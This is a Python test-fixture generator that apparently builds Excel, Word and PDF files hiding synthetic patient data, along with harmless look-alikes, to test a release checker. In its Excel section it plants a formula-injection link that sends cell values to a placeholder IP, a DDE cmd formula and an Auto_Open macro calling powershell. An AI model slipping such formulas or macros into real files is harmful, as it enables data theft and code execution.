"""Excel, Word and PDF files with hidden or embedded things, and harmless ones that look so."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Inches
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, NameObject
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

from tests.airlock.outputs.case import Shelf

from .tools import day, ipp, nir, person, plt, split


def book(
    path: Path, title: str, rows: list[list[Any]], change: Callable[[Workbook, Any], None] | None = None
) -> None:
    """A workbook with one formatted table from A3 on."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Résultats"
    ws["A1"] = title
    ws["A1"].font = Font(bold=True, size=14)
    for i, row in enumerate(rows):
        for j, value in enumerate(row):
            cell = ws.cell(3 + i, 1 + j, value)
            if i == 0:
                cell.font = Font(bold=True, color="FFFFFF")
                cell.fill = PatternFill("solid", fgColor="305496")
    ws.column_dimensions["A"].width = 34
    if change:
        change(wb, ws)
    wb.properties.creator = ""
    wb.save(path)


def word(title: str, paragraphs: list[str], rows: list[list[Any]]) -> Any:
    doc = Document()
    doc.core_properties.author = ""
    doc.core_properties.comments = ""
    doc.add_heading(title, 1)
    for text in paragraphs:
        doc.add_paragraph(text)
    table = doc.add_table(len(rows), len(rows[0]), style="Table Grid")
    for i, row in enumerate(rows):
        for j, value in enumerate(row):
            table.cell(i, j).text = str(value)
    return doc


def pdf(path: Path, title: str, lines: list[str], extra: Callable[[Canvas], None] | None = None) -> None:
    canvas = Canvas(str(path), pagesize=A4, invariant=1)
    canvas.setTitle(title)
    canvas.setAuthor("")
    canvas.setFont("Helvetica-Bold", 14)
    canvas.drawString(60, 790, title)
    canvas.setFont("Helvetica", 11)
    for i, line in enumerate(lines):
        canvas.drawString(60, 760 - 19 * i, line)
    if extra:
        extra(canvas)
    canvas.save()


def table(
    r: Any, names: list[str], total: int, head: tuple[str, ...] = ("Modalité", "Effectif", "%")
) -> list[list[Any]]:
    parts = split(r, total, len(names), total // 20)
    return [
        list(head),
        *[[n, c, round(100 * c / total, 1)] for n, c in zip(names, parts, strict=True)],
        ["Total", total, 100.0],
    ]


def write(shelf: Shelf) -> None:
    unsafe_excel(shelf)
    unsafe_word(shelf)
    unsafe_pdf(shelf)
    safe_office(shelf)
    safe_pdf(shelf)


def unsafe_excel(shelf: Shelf) -> None:
    r = shelf.random("xl")

    def source(wb: Workbook, ws: Any) -> None:
        sheet = wb.create_sheet("src")
        sheet.append(["n_sejour", "entree", "sortie", "ghm"])
        for k in range(80):
            sheet.append([f"23{k:06d}", day(r), day(r), r.choice(["05M09", "04M05"])])
        sheet.sheet_state = "veryHidden"

    book(
        shelf.unsafe(
            "hidden/dms_ghm.xlsx",
            "very hidden sheet with stays",
            "sheet src",
            "DMS par racine de GHM.",
            "21 300 séjours",
        ),
        "DMS par racine de GHM",
        table(r, ["05M09", "04M05", "01M30", "06C04", "08C47"], 21300, ("GHM", "Séjours", "%")),
        source,
    )

    def column(wb: Workbook, ws: Any) -> None:
        for i in range(4, 14):
            ws.cell(i, 8, ipp(r))
        ws.column_dimensions["H"].hidden = True

    book(
        shelf.unsafe(
            "hidden/asthma_control.xlsx",
            "hospital numbers in a hidden column",
            "column H",
            "Asthma control by class.",
            "2,180 patients",
        ),
        "Asthma control",
        table(r, ["Controlled", "Partly", "Uncontrolled"], 2180, ("Class", "N", "%")),
        column,
    )

    rows = [
        ["Germe", "Épisodes"],
        ["E. coli", 911],
        ["Klebsiella", 402],
        ["Proteus", 188],
        ["Enterococcus", 151],
        ["Serratia", 6],
        ["Pseudomonas", 97],
    ]

    def row(wb: Workbook, ws: Any) -> None:
        ws.row_dimensions[8].hidden = True

    book(
        shelf.unsafe(
            "hidden/ecbu.xlsx",
            "small cell in a hidden row",
            "row 8: Serratia 6",
            "Germes des infections urinaires.",
            "Épisodes de 2022",
        ),
        "Infections urinaires : germes",
        rows,
        row,
    )

    def masked(wb: Workbook, ws: Any) -> None:
        ws["B7"].number_format = '"<10"'

    rows = [["Ethnic background of donors", "N"], ["A", 402], ["B", 311], ["C", 127], ["D", 4], ["E", 55]]
    rows[0] = ["Donor blood group subtype", "N"]
    book(
        shelf.unsafe(
            "hidden/donors.xlsx",
            "a number format hides a small cell",
            'B7 shows "<10", holds 4',
            "Donor subtypes; cells under 10 masked.",
            "About 900 donors",
        ),
        "Donors by subtype",
        rows,
        masked,
    )

    def note(wb: Workbook, ws: Any) -> None:
        ws["B5"].comment = Comment(f"dont {person(r)}, à recontacter", "x")

    book(
        shelf.unsafe(
            "hidden/sclerose.xlsx",
            "a name in a cell's comment",
            "comment at B5",
            "Formes de SEP à l'inclusion.",
            "1 340 patients",
        ),
        "Formes cliniques",
        table(r, ["RR", "SP", "PP"], 1340),
        note,
    )

    def formula(wb: Workbook, ws: Any) -> None:
        ws["E4"] = '=HYPERLINK("http://198.51.100.7/c?d="&B4&B5,"détail")'
        ws["E5"] = "=cmd|' /C calc'!A0"

    book(
        shelf.unsafe(
            "hidden/bilan_had.xlsx",
            "formula injection (DDE and link that sends the cells)",
            "E4, E5",
            "Bilan de l'HAD.",
            "3 010 séjours d'HAD",
        ),
        "Bilan HAD 2023",
        table(r, ["Pansements", "Soins palliatifs", "Chimiothérapie", "Autres"], 3010),
        formula,
    )

    def choices(wb: Workbook, ws: Any) -> None:
        wb.defined_names["liste"] = DefinedName(
            "liste", attr_text='{"' + '";"'.join(f"{nir(r)}" for _ in range(4)) + '"}'
        )
        ws.add_data_validation(DataValidation(type="list", formula1="liste"))

    book(
        shelf.unsafe(
            "hidden/suivi_greffe.xlsx",
            "NIR in a defined name",
            "defined name 'liste'",
            "Follow-up of transplants by type.",
            "1,870 recipients",
        ),
        "Grafts",
        table(r, ["Kidney", "Liver", "Heart", "Lung"], 1870, ("Organ", "N", "%")),
        choices,
    )

    path = shelf.unsafe(
        "hidden/tableau_macro.xlsm",
        "a macro in the workbook",
        "xl/vbaProject.bin",
        "Tableau de bord mensuel avec bouton d'actualisation.",
        "16 000 séjours",
    )
    book(path, "Tableau de bord", table(r, ["Médecine", "Chirurgie", "Obstétrique"], 16000))
    with zipfile.ZipFile(path, "a") as box:
        box.writestr(
            "xl/vbaProject.bin",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + b"\0" * 500
            + b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "powershell"\r\nEnd Sub',
        )


def unsafe_word(shelf: Shelf) -> None:
    r = shelf.random("wd")
    doc = word(
        "Pancréatites aiguës : résultats",
        ["La mortalité à 90 jours est de 6,4 %.", "Le délai médian d'imagerie est de 31 h (Q1-Q3 : 18-52)."],
        table(r, ["Biliaire", "Alcoolique", "Autre"], 1720),
    )
    doc.paragraphs[1]._p.append(
        parse_xml(
            f'<w:del {nsdecls("w")} w:id="5" w:author="" w:date="2024-01-01T00:00:00Z"><w:r><w:delText xml:space="preserve"> Le seul décès d\'enfant (8 ans) est survenu le 17/08/2021.</w:delText></w:r></w:del>'
        )
    )
    doc.save(
        str(
            shelf.unsafe(
                "hidden/pancreatites.docx",
                "a deleted sentence on one child, kept by track changes",
                "w:del",
                "Résultats de l'étude pancréatites.",
                "1 720 pancréatites aiguës",
            )
        )
    )

    doc = word(
        "Hip fracture pathway",
        ["Median time to surgery fell from 41 to 29 hours."],
        table(r, ["2020", "2021", "2022"], 2130, ("Year", "N", "%")),
    )
    run = doc.paragraphs[1].add_run(f" [{ipp(r)} = {person(r)}; {ipp(r)} = {person(r)}]")
    run.font.hidden = True
    doc.save(
        str(
            shelf.unsafe(
                "hidden/hip_pathway.docx",
                "hidden text with names",
                "w:vanish run",
                "Report on the hip fracture pathway.",
                "2,130 hip fractures",
            )
        )
    )

    path = shelf.unsafe(
        "hidden/rapport_imagerie.docx",
        "a workbook of rows embedded behind a table",
        "word/embeddings/data.xlsx",
        "Rapport sur les délais d'imagerie.",
        "5 400 IRM",
    )
    word(
        "Délais d'imagerie",
        ["Délais médians par indication."],
        [
            ["Indication", "IRM", "Délai médian (j)"],
            ["Neuro", 2210, 19],
            ["Ostéo-articulaire", 1904, 33],
            ["Abdomen", 1286, 14],
        ],
    ).save(str(path))
    wb = Workbook()
    for _ in range(60):
        wb.active.append([ipp(r), day(r), r.randint(1, 90)])
    wb.properties.creator = ""
    buffer = io.BytesIO()
    wb.save(buffer)
    with zipfile.ZipFile(path, "a") as box:
        box.writestr("word/embeddings/data.xlsx", buffer.getvalue())


def unsafe_pdf(shelf: Shelf) -> None:
    r = shelf.random("pd")
    lines = [
        "Patients inclus : 3 208",
        "Âge médian : 71 ans (Q1-Q3 : 62-80)",
        "Femmes : 1 402 (43,7 %)",
        "Réadmissions à 30 jours : 391 (12,2 %)",
    ]

    def invisible(c: Canvas) -> None:
        text = c.beginText(60, 400)
        text.setTextRenderMode(3)
        for _ in range(12):
            text.textLine(f"{ipp(r)} {person(r)} {day(r)}")
        c.drawText(text)

    pdf(
        shelf.unsafe(
            "hidden/synthese_ic.pdf",
            "invisible text (render mode 3) with rows",
            "page 1",
            "Synthèse de la cohorte insuffisance cardiaque.",
            "3 208 patients",
        ),
        "Cohorte IC",
        lines,
        invisible,
    )

    def covered(c: Canvas) -> None:
        c.drawString(60, 620, "Deaths on the table: 3 (emergency aortic surgery)")
        c.setFillColorRGB(0, 0, 0)
        c.rect(55, 614, 300, 18, fill=1)

    pdf(
        shelf.unsafe(
            "hidden/aortic.pdf",
            "small number under a black rectangle",
            "under the rectangle: 3 deaths",
            "Results of aortic surgery.",
            "1,108 operations",
        ),
        "Aortic surgery 2018-2023",
        ["Operations: 1,108", "Elective: 811 (73.2%)", "Emergency: 297 (26.8%)", "30-day mortality: 6.1%"],
        covered,
    )

    path = shelf.unsafe(
        "hidden/questionnaire.pdf",
        "NIR in a form field's value",
        "AcroForm field 'id'",
        "Résultats du questionnaire de satisfaction.",
        "1 904 répondants",
    )
    pdf(
        path,
        "Satisfaction",
        [
            "Répondants : 1 904",
            "Très satisfaits : 811 (42,6 %)",
            "Satisfaits : 790 (41,5 %)",
            "Peu ou pas satisfaits : 303 (15,9 %)",
        ],
        lambda c: c.acroForm.textfield(name="id", value=nir(r), x=60, y=500, width=1, height=1),
    )

    path = shelf.unsafe(
        "hidden/poster.pdf",
        "patient rows in an annotation",
        "hidden text annotation",
        "Poster of the dialysis study.",
        "960 dialysis patients",
    )
    pdf(
        path,
        "Fistula patency",
        ["Patients: 960", "Primary patency at 12 months: 64%", "Secondary patency at 12 months: 81%"],
    )
    with pikepdf.open(path, allow_overwriting_input=True) as file:
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Text,
            Rect=[0, 0, 1, 1],
            F=2,
            Contents="; ".join(f"{person(r)} {day(r)} thrombosis" for _ in range(5)),
        )
        file.pages[0].Annots = pikepdf.Array([file.make_indirect(note)])
        file.save(path)

    path = shelf.unsafe(
        "hidden/revision.pdf",
        "an earlier revision with a small cell remains in the file",
        "object of the first revision",
        "Table of transfusion reactions.",
        "14,220 transfusions",
    )
    pdf(
        path,
        "Transfusion reactions",
        ["Transfusions: 14,220", "FNHTR: 311", "Allergic: 188", "Haemolytic: 5", "Overload: 64"],
    )
    writer = PdfWriter(str(path), incremental=True)
    stream = DecodedStreamObject()
    stream.set_data(
        b"BT /F1 12 Tf 60 760 Td (Transfusions: 14,220) Tj 0 -20 Td (FNHTR: 311) Tj 0 -20 Td (Allergic: 188) Tj 0 -20 Td (Overload: 64) Tj ET"
    )
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
    writer.write(str(path))


def safe_office(shelf: Shelf) -> None:
    r = shelf.random("so")

    def comments(wb: Workbook, ws: Any) -> None:
        ws["A4"].comment = Comment("Définition : GOLD 2023", "")
        ws.freeze_panes = "B4"
        ws.conditional_formatting.add(
            "C4:C8", CellIsRule(operator="lessThan", formula=["5"], fill=PatternFill("solid", bgColor="FFC7CE"))
        )

    book(
        shelf.safe(
            "hidden/bpco_gold.xlsx",
            "a comment on the definition, conditional format with 5",
            "Stades GOLD.",
            "4 210 patients BPCO",
        ),
        "Stades GOLD",
        table(r, ["GOLD 1", "GOLD 2", "GOLD 3", "GOLD 4"], 4210),
        comments,
    )

    def chart(wb: Workbook, ws: Any) -> None:
        c = BarChart()
        c.add_data(Reference(ws, min_col=2, min_row=3, max_row=7), titles_from_data=True)
        c.set_categories(Reference(ws, min_col=1, min_row=4, max_row=7))
        ws.add_chart(c, "E3")

    book(
        shelf.safe(
            "hidden/los_chart.xlsx",
            "a chart bound to aggregated cells",
            "Stays by department with a chart.",
            "12,480 stays",
        ),
        "Stays by department",
        table(r, ["Medicine", "Surgery", "Geriatrics", "Paediatrics"], 12480, ("Department", "Stays", "%")),
        chart,
    )

    def names(wb: Workbook, ws: Any) -> None:
        wb.defined_names["total"] = DefinedName("total", attr_text="'Résultats'!$B$9")
        ws["B9"] = "=SUM(B4:B8)"
        ws["B9"].number_format = "#,##0"
        ws.auto_filter.ref = "A3:C8"
        wb.properties.title = "Volumes 2023"

    book(
        shelf.safe(
            "hidden/volumes_dim.xlsx",
            "a defined name, a sum, a filter that hides nothing",
            "Volumes par pôle (DIM).",
            "71 000 séjours",
        ),
        "Volumes par pôle",
        table(r, ["Pôle A", "Pôle B", "Pôle C", "Pôle D", "Pôle E"], 71000),
        names,
    )
    doc = word(
        "Prévention des chutes",
        ["Le taux de chutes passe de 6,2 à 4,8 pour 1 000 journées (environ 480 et 370 chutes par an)."],
        table(r, ["Chambre", "Sanitaires", "Couloir", "Autre"], 1910),
    )
    doc.sections[0].footer.paragraphs[0].text = "Page 1 sur 3 - version 2.4 - document interne"
    doc.paragraphs[1]._p.append(
        parse_xml(
            f'<w:ins {nsdecls("w")} w:id="3" w:author="" w:date="2024-02-02T00:00:00Z"><w:r><w:t xml:space="preserve"> Voir le tableau.</w:t></w:r></w:ins>'
        )
    )
    doc.save(
        str(
            shelf.safe(
                "hidden/chutes.docx",
                "an inserted phrase (track changes), footer with small numbers",
                "Évaluation du programme de prévention des chutes.",
                "1 910 chutes déclarées en cinq ans",
            )
        )
    )
    doc = word(
        "Paediatric asthma clinic",
        ["Median number of visits per child: 3 (IQR 2-5). Three centres took part."],
        table(r, ["0-4 y", "5-9 y", "10-14 y", "15-17 y"], 2640, ("Age", "Children", "%")),
    )
    fig, ax = plt.subplots(figsize=(5, 3))
    ax.bar(["2019", "2020", "2021", "2022"], [22.1, 19.4, 20.2, 23.3])
    ax.set(title="Uncontrolled asthma (%)")
    buffer = io.BytesIO()
    fig.savefig(buffer, format="png")
    plt.close(fig)
    doc.add_picture(buffer, width=Inches(4))
    doc.inline_shapes[0]._inline.docPr.set("descr", "Bar chart: uncontrolled asthma by year, 2019 to 2022")
    doc.save(
        str(
            shelf.safe(
                "hidden/paed_asthma.docx",
                "alt text, three centres, median of visits",
                "Report of the paediatric asthma clinic.",
                "2,640 children, about 600 assessed each year",
            )
        )
    )


def safe_pdf(shelf: Shelf) -> None:
    r = shelf.random("so2")

    def formats(wb: Workbook, ws: Any) -> None:
        for i in range(4, 10):
            ws.cell(i, 2).number_format = "#,##0"
            ws.cell(i, 3).number_format = '0.0" %"'
        ws.merge_cells("A1:C1")
        ws["A12"] = "Statut du tableau"
        ws["B12"] = "Validé"
        check = DataValidation(type="list", formula1='"Brouillon,Relu,Validé"')
        check.add("B12")
        ws.add_data_validation(check)
        ws.print_area = "A1:C12"

    book(
        shelf.safe(
            "hidden/allergies.xlsx",
            "number formats, a merged title, a list of choices",
            "Allergies médicamenteuses par classe.",
            "5 930 patients avec allergie déclarée",
        ),
        "Allergies déclarées, par classe",
        table(r, ["Bêta-lactamines", "AINS", "Produits de contraste", "Opioïdes", "Autres"], 5930),
        formats,
    )
    doc = word(
        "Length of stay after hysterectomy",
        [
            "Table 1 gives operations by route. Length of stay: median 2 days (Q1-Q3 1-4).",
            "* Chi-squared test, 2 df, p = 0.004.",
        ],
        table(r, ["Laparoscopic", "Vaginal", "Abdominal"], 3480, ("Route", "Women", "%")),
    )
    doc.sections[0].header.paragraphs[0].text = "Statistical report - version 3 - 2 pages"
    doc.core_properties.title = "Statistical report"
    doc.core_properties.revision = 4
    doc.paragraphs[1]._p.insert(0, parse_xml(f'<w:bookmarkStart {nsdecls("w")} w:id="1" w:name="Table_1"/>'))
    doc.paragraphs[1]._p.append(parse_xml(f'<w:bookmarkEnd {nsdecls("w")} w:id="1"/>'))
    doc.save(
        str(
            shelf.safe(
                "hidden/hysterectomy.docx",
                "a bookmark, header with small numbers, median of days",
                "Report on length of stay after hysterectomy.",
                "3,480 women",
            )
        )
    )
    path = shelf.safe(
        "hidden/ehpad_hospit.pdf",
        "XMP metadata with a version, page labels",
        "Hospitalisations depuis les EHPAD.",
        "8 240 hospitalisations",
    )
    pdf(
        path,
        "Hospitalisations depuis les EHPAD",
        [
            "Hospitalisations : 8 240, provenant de 62 EHPAD",
            "Motif infectieux : 2 307 (28,0 %)",
            "Chute : 1 730 (21,0 %)",
            "Cardiologique : 1 401 (17,0 %)",
            "Autre : 2 802 (34,0 %)",
            "Durée médiane : 7 jours (Q1-Q3 : 4-12)",
        ],
    )
    with pikepdf.open(path, allow_overwriting_input=True) as file:
        with file.open_metadata() as meta:
            meta["xmp:CreatorTool"] = "LibreOffice 7.4"
            meta["dc:title"] = "Hospitalisations depuis les EHPAD, version 2"
        file.Root.PageLabels = pikepdf.Dictionary(Nums=[0, pikepdf.Dictionary(S=pikepdf.Name.D, St=4)])
        file.save(path)
    pdf(shelf.safe("hidden/rapport_qualite.pdf", "bookmark and link", "Rapport d'indicateurs de qualité.", "24 100 séjours"), "Indicateurs de qualité 2023", ["Lettre de liaison à J0 : 81 %", "Évaluation de la douleur : 93 %", "Séjours évalués : 24 100", "Rang régional : 4 sur 23 établissements", "Objectif 2024 : 90 %"],
        lambda c: (c.bookmarkPage("p1"), c.addOutlineEntry("Indicateurs", "p1"), c.linkURL("https://www.has-sante.fr", (60, 600, 200, 620)))[0])  # fmt: skip
    path = shelf.safe(
        "hidden/methods_note.pdf",
        "metadata: producer, keywords; small numbers of methods",
        "Methods note: imputation and sensitivity analyses.",
        "No patient data",
    )
    pdf(
        path,
        "Methods note",
        [
            "Multiple imputation: 20 data sets, 10 iterations",
            "Splines with 4 knots at percentiles 5, 35, 65, 95",
            "Caliper: 0.2 SD; matching ratio 1:3",
            "Bootstrap: 1,000 resamples",
            "Significance level: 5%",
        ],
    )
    with pikepdf.open(path, allow_overwriting_input=True) as file:
        file.docinfo["/Keywords"] = "imputation, matching, version 7"
        file.save(path)
    pdf(shelf.safe("hidden/tri_redaction.pdf", "a black rectangle over nothing (page decoration)", "Activité du service d'accueil.", "44 100 passages"), "SAU : activité 2022", ["Passages : 44 100", "Hospitalisations : 9 702 (22,0 %)", "Durée médiane : 4 h 10", "Tri 1-2 : 5 292 (12,0 %)", "Tri 3-5 : 38 808 (88,0 %)"],
        lambda c: c.rect(0, 0, 595, 12, fill=1))  # fmt: skip
